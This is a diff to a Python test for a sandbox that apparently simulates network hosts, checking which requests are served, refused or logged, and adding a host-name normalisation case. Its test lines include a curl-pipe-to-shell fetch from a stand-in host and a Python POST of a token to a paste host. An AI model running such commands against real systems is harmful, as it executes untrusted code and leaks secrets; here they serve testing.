@@ -62,10 +62,14 @@ def test_what_the_scenario_serves_is_served_and_the_rest_refused(env):
     env.reset()
     assert shell(env, "curl -s http://get.example/i.sh | sh; cat /tmp/ran") == "ran\n"
     assert shell(env, "curl -s -o /dev/null -w '%{http_code}' http://get.example/other") == "503"
+    # the site is the name resolved, however it was spelled (a trailing dot, capitals)
+    assert shell(env, "curl -s -o /dev/null -w '%{http_code}' http://GET.Example./i.sh") == "200"
     body = "token=abc123"
     shell(env, f"python3 -c \"import urllib.request as u; u.urlopen('http://paste.example/up', b'{body}')\"")
-    first, other, post = attempts(env)
-    assert (first["answer"], other["answer"]) == ("200 (20 bytes served)", "503")
+    first, other, spelled, post = attempts(env)
+    assert (spelled["name"], spelled["host"]) == ("get.example", "get.example.")
+    served = "200 (20 bytes served)"
+    assert (first["answer"], other["answer"], spelled["answer"]) == (served, "503", served)
     assert (post["method"], post["host"], post["path"]) == ("POST", "paste.example", "/up")
     assert base64.b64decode(post["body_b64"]).decode() == body and post["agent"].startswith("Python-urllib")
 
